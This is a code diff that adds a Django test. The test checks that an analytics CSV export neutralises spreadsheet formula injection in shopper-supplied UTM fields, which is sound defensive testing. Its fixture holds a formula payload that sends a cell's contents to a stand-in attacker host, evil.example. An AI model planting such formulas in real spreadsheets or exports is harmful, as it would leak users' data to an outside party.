@@ -185,6 +185,23 @@ def test_the_csv_export_has_the_numbers_of_the_map(client, staff_user, traffic):
     assert any(r[0] == "Day by day" and r[3] == "orders" for r in rows)
 
 
+def test_the_csv_export_escapes_shopper_controlled_utm_values_that_a_spreadsheet_would_run(client, staff_user):
+    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    now = timezone.now()
+    JourneyEvent.objects.bulk_create([
+        events.build(Kind.CAMPAIGN_LANDING, visitor_id="v1", at=now - timedelta(minutes=5), source=evil,
+                     medium="-cpc", device="mobile"),
+        events.build(Kind.CAMPAIGN_LANDING, visitor_id="v2", at=now - timedelta(minutes=5), source="google",
+                     medium="cpc", device="mobile")])
+    client.force_login(staff_user)
+    response = client.get(MAP_URL, {"period": "7", "format": "csv", "by": "source"})
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    items = {r[2] for r in rows if r[0].startswith("Funnel by")}
+    assert "'" + evil in items and "google" in items and evil not in items
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+    assert all(cell.lstrip("-").replace(".", "").isdigit() for row in rows[2:] for cell in row[4:] if cell)
+
+
 def test_the_printable_page(client, staff_user):
     client.force_login(staff_user)
     html = client.get(MAP_URL, {"print": "1"}).content.decode()
